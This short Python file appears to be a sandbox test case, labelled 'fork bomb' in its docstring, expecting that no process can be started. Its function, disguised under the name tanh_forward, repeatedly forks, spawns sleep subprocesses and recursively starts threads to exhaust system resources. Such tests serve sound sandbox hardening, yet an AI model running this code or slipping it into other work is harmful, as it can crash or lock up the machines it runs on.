"""Class: fork bomb. Expectation: no process can be started; nothing is left running."""

import os
import subprocess
import threading


def tanh_forward(x):
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            pass
        try:
            subprocess.Popen(["sleep", "1000"])
        except OSError:
            pass
        try:
            threading.Thread(target=tanh_forward, args=(x,)).start()
        except RuntimeError:
            pass
    return x, x
